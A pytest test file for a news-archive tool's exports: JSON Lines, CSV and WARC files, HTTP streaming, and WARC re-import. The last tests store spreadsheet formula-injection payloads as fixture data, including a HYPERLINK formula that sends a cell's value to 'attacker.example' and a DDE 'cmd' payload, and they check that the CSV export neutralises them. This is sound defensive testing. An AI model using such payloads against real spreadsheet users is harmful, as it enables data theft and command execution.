"""Exports: JSON Lines and CSV records, streamed over HTTP, and WARC that re-imports."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from warcio.archiveiterator import ArchiveIterator

from newstrail.errors import InvalidInput, NotFound
from newstrail.serve.export import (
    COLUMNS,
    export_csv,
    export_jsonl,
    export_records,
    warc_records,
    write_records,
    write_warc,
)
from newstrail.serve.web import create_app
from newstrail.settings import Settings
from newstrail.store.database import Store
from test_web_support import T0, Archive, seed_archive


@pytest.fixture
def archive(store: Store) -> Archive:
    return seed_archive(store)


def test_records_of_each_kind_have_their_columns(store: Store, archive: Archive) -> None:
    counts = {"articles": 4, "versions": 6, "stories": 1, "quotes": 2}
    for kind, count in counts.items():
        records = list(export_records(store, kind))
        assert len(records) == count, kind
        assert all(list(r) == COLUMNS[kind] for r in records)
    story = next(export_records(store, "stories"))
    assert sorted(story["article_ids"]) == sorted(
        [archive.edited_article, archive.other_article, archive.xss_article]
    )


def test_filters_by_story_and_article(store: Store, archive: Archive) -> None:
    versions = list(export_records(store, "versions", article_id=archive.edited_article))
    assert [v["number"] for v in versions] == [1, 2, 3]
    in_story = {r["id"] for r in export_records(store, "articles", story_id=archive.story_id)}
    assert archive.retired_article not in in_story and len(in_story) == 3
    assert len(list(export_records(store, "quotes", article_id=archive.other_article))) == 1
    assert len(list(export_records(store, "articles", limit=2))) == 2
    with pytest.raises(ValueError):
        list(export_records(store, "planets"))


def test_jsonl_and_csv_round_trip_the_values(store: Store, archive: Archive) -> None:
    lines = list(export_jsonl(store, "versions", article_id=archive.edited_article))
    records = [json.loads(line) for line in lines]
    assert records[2]["text"].endswith("She will stay on as an MP.")
    assert datetime.fromisoformat(records[0]["captured_at"]) == T0
    rows = list(csv.DictReader(io.StringIO("".join(export_csv(store, "versions")))))
    assert len(rows) == 6
    multiline = next(r for r in rows if r["article_id"] == str(archive.xss_article))
    assert multiline["text"].count("\n") == 1  # newlines and quotes survive CSV quoting
    stories = list(csv.DictReader(io.StringIO("".join(export_csv(store, "stories")))))
    assert len(stories[0]["article_ids"].split()) == 3


def test_warc_holds_a_response_per_raw_page_and_resources_for_text(
    store: Store, archive: Archive
) -> None:
    data = b"".join(warc_records(store, article_id=archive.edited_article))
    records = list(ArchiveIterator(io.BytesIO(data)))
    assert [r.rec_type for r in records] == ["warcinfo", "response", "resource", "resource"]
    response = records[1]
    assert response.rec_headers.get_header("WARC-Target-URI") == "https://wire.example/minister"
    assert response.rec_headers.get_header("WARC-Date") == "2024-03-01T08:00:00Z"
    assert response.http_headers.get_header("Content-Type").startswith("text/html")
    assert records[3].rec_headers.get_header("WARC-Date") == "2024-03-01T10:00:00Z"


def test_warc_of_a_story_and_of_missing_records(
    store: Store, archive: Archive, tmp_path: Path
) -> None:
    size = write_warc(store, tmp_path / "story.warc.gz", story_id=archive.story_id)
    with (tmp_path / "story.warc.gz").open("rb") as stream:
        records = [r.rec_type for r in ArchiveIterator(stream)]
    assert size > 0 and len(records) == 1 + 5  # warcinfo + every version of three articles
    with pytest.raises(NotFound):
        list(warc_records(store, article_id=999))
    with pytest.raises(NotFound):
        list(warc_records(store, story_id=999))


def test_writing_to_a_file_checks_the_request_before_creating_the_file(
    store: Store, archive: Archive, tmp_path: Path
) -> None:
    with pytest.raises(NotFound):
        write_warc(store, tmp_path / "none.warc.gz", article_id=999)
    with pytest.raises(InvalidInput, match="unknown export kind"):
        write_records(store, "nonsense", tmp_path / "none.jsonl")
    assert not (tmp_path / "none.warc.gz").exists() and not (tmp_path / "none.jsonl").exists()
    write_records(store, "versions", tmp_path / "v.csv", output_format="csv", article_id=1)
    with (tmp_path / "v.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert rows and {row["article_id"] for row in rows} == {"1"}


def test_warc_reimports_through_the_importer(shared_data: Path, tmp_path: Path) -> None:
    pytest.importorskip(
        "newstrail.text.urls", reason="the importer's WARC reader needs newstrail.text.urls"
    )
    from newstrail.extract.article import extract_html
    from newstrail.jobs.importer import import_paths
    from newstrail.serve.archive import get_article, list_articles
    from newstrail.versions.recording import Capture, record_capture

    case = shared_data / "revisions" / "bbc_32275608"
    url = "http://www.bbc.co.uk/news/world-us-canada-32275608"
    original = Store(tmp_path / "original.db")
    for day, page in (
        (datetime(2015, 4, 12, tzinfo=UTC), "v0_2015-04-12.html"),
        (datetime(2020, 11, 1, tzinfo=UTC), "v1_2020-11-01.html"),
    ):
        raw = (case / page).read_bytes()
        extracted = extract_html(raw, url)
        # The importer keys articles by the page's canonical URL; the original does too.
        record_capture(
            original,
            Capture(
                url=extracted.url or url,
                extracted=extracted,
                origin="fetch",
                captured_at=day,
                raw=raw,
                content_type="text/html",
            ),
        )
    article_id = list_articles(original)[0].id
    write_warc(original, tmp_path / "export.warc.gz", article_id=article_id)

    copy = Store(tmp_path / "copy.db")
    report = import_paths(copy, [tmp_path / "export.warc.gz"], Settings())
    assert report.failures == []
    before, after = get_article(original, article_id), get_article(copy, list_articles(copy)[0].id)
    assert after.article.url == before.article.url
    assert after.text == before.text
    assert [(v.number, v.kind, v.captured_at.date()) for v in after.versions] == [
        (v.number, v.kind, v.captured_at.date()) for v in before.versions
    ]
    original.close()
    copy.close()


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture
async def client(store: Store, archive: Archive) -> AsyncIterator[httpx.AsyncClient]:
    transport = httpx.ASGITransport(app=create_app(store, Settings()))
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        yield client


@pytest.mark.anyio
async def test_http_exports_stream(client: httpx.AsyncClient, archive: Archive) -> None:
    jsonl = await client.get("/export/articles.jsonl")
    assert jsonl.headers["content-type"] == "application/x-ndjson"
    assert len(jsonl.text.splitlines()) == 4
    story_csv = await client.get(f"/export/versions.csv?article={archive.edited_article}")
    assert story_csv.headers["content-type"].startswith("text/csv")
    assert len(list(csv.DictReader(io.StringIO(story_csv.text)))) == 3
    warc = await client.get(f"/stories/{archive.story_id}.warc")
    assert warc.headers["content-type"] == "application/warc"
    assert len(list(ArchiveIterator(io.BytesIO(warc.content)))) == 6
    assert (await client.get("/export/planets.jsonl")).status_code == 400


FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'


def _record_formula_text(store: Store) -> None:
    """An article whose text and title a spreadsheet would run as formulas."""
    from newstrail.extract.records import Extracted
    from newstrail.versions.recording import Capture, record_capture

    extracted = Extracted(
        title="+cmd|' /C calc'!A0",
        author="@SUM(1+1)",
        date=None,
        site=None,
        text=FORMULA,
        url=None,
        language="en",
        extractor="test/1",
    )
    record_capture(
        store,
        Capture(
            url="https://example.org/formula",
            extracted=extracted,
            origin="import:text",
            captured_at=datetime(2024, 1, 1, tzinfo=UTC),
        ),
    )


def test_csv_cells_that_spreadsheets_run_are_neutralised(store: Store, tmp_path: Path) -> None:
    _record_formula_text(store)
    write_records(store, "versions", tmp_path / "v.csv", output_format="csv")
    with (tmp_path / "v.csv").open(newline="") as file:
        (row,) = list(csv.DictReader(file))
    assert row["text"] == "'" + FORMULA
    assert row["title"] == "'+cmd|' /C calc'!A0" and row["byline"] == "'@SUM(1+1)"
    assert row["number"] == "1"  # numbers stay numbers
    # The JSON Lines export keeps the stored text exactly.
    (record,) = [json.loads(line) for line in export_jsonl(store, "versions")]
    assert record["text"] == FORMULA


@pytest.mark.anyio
async def test_http_csv_export_is_neutralised_too(store: Store) -> None:
    _record_formula_text(store)
    transport = httpx.ASGITransport(app=create_app(store, Settings()))
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        response = await client.get("/export/versions.csv")
    (row,) = list(csv.DictReader(io.StringIO(response.text)))
    assert row["text"] == "'" + FORMULA and not any(
        value.startswith(("=", "+", "-", "@")) for value in row.values()
    )
